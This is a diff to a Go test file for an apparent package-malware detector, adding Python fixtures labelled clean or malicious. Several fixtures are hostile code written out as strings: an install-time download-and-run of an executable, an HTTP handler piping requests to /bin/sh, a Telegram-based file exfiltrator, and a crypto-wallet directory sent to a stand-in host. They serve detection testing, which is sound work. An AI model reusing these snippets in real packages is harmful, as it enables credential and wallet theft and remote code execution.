@@ -4,6 +4,7 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"strings"
 	"testing"
 
 	"github.com/safeguard-dev/safeguard/internal/artifact"
@@ -26,6 +27,10 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"a vendored data file refreshed and the tree diffed", map[string]string{"tooling/main.py": "" +
 			"import subprocess, requests\ndef update(f):\n    new = requests.get('https://data.example.invalid/tlds.txt').content\n    with open(f, 'wb') as out:\n        out.write(new)\n" +
 			"def check():\n    subprocess.check_call(['git', 'diff', '--exit-code'])\n"}, "", Clean},
+		{"a converter opening the document it wrote, in a tool that also fetches images", map[string]string{"p/pisa.py": "" +
+			"import os, urllib.request\ndef fetch_image(url):\n    return urllib.request.urlopen(url).read()\n" +
+			"def start_viewer(path):\n    os.startfile(path)\n" +
+			"def convert(src, dest):\n    with open(dest, 'wb') as f:\n        f.write(src.encode())\n    start_viewer(dest)\n"}, "", Clean},
 		{"a downloaded file run as the program at install", map[string]string{"setup.py": "" +
 			"import subprocess, urllib.request\nfrom setuptools import setup\ndest = 'helper.exe'\nurllib.request.urlretrieve('https://example.invalid/h.exe', dest)\nsubprocess.call([dest, '/S'])\nsetup(name='p')\n"}, "download-execute", Malicious},
 		{"a downloaded file run from a format string at install", map[string]string{"setup.py": "" +
@@ -76,6 +81,17 @@ func TestPopularProjectShapes(t *testing.T) {
 			"import http.server, subprocess\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n" +
 			"        data = self.rfile.read(int(self.headers['content-length']))\n        p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n" +
 			"        out, _ = p.communicate(data)\n        self.wfile.write(out)\n"}, "reverse-shell", Malicious},
+
+		{"a progress bar's chat writer keeping the bot API prefix as a class constant", map[string]string{"p/contrib/telegram.py": "" +
+			"from requests import Session\nclass TelegramIO:\n    API = 'https://api.telegram.org/bot'\n    def __init__(self, token, chat_id):\n        self.token, self.chat_id = token, chat_id\n        self.session = Session()\n" +
+			"    def write(self, s):\n        return self.session.post(self.API + '%s/sendMessage' % self.token, data={'text': s, 'chat_id': self.chat_id})\n"}, "", Clean},
+		{"the same prefix with the thief's token built in", map[string]string{"p/contrib/telegram.py": "" +
+			"import os, requests\nAPI = 'https://api.telegram.org/bot'\nTOKEN = '5712345678:AAH' + 'x' * 32\ndef send(path):\n    requests.post(API + TOKEN + '/sendDocument', data={'chat_id': '1'}, files={'document': open(path, 'rb')})\n"}, "combined-threats", Malicious},
+
+		{"a password checker's frequency list holding a wallet's name, loaded on import", map[string]string{"p/__init__.py": "from .frequency_lists import FREQUENCY_LISTS\n",
+			"p/frequency_lists.py": "import requests\nFREQUENCY_LISTS = {'english': '" + strings.Repeat("the,of,and,armory,metamask,was,", 100) + "'}\n"}, "", Clean},
+		{"a wallet's directory read next to a network call", map[string]string{"p/__init__.py": "" +
+			"import os, requests\nW = os.path.expanduser('~/.armory/wallets')\nrequests.post('https://example.invalid/u', data=str(os.listdir(W)))\n"}, "credential-access", Malicious},
 
 		// Logging in to a server as oneself; finding the local address
 		// with a UDP socket that sends nothing.
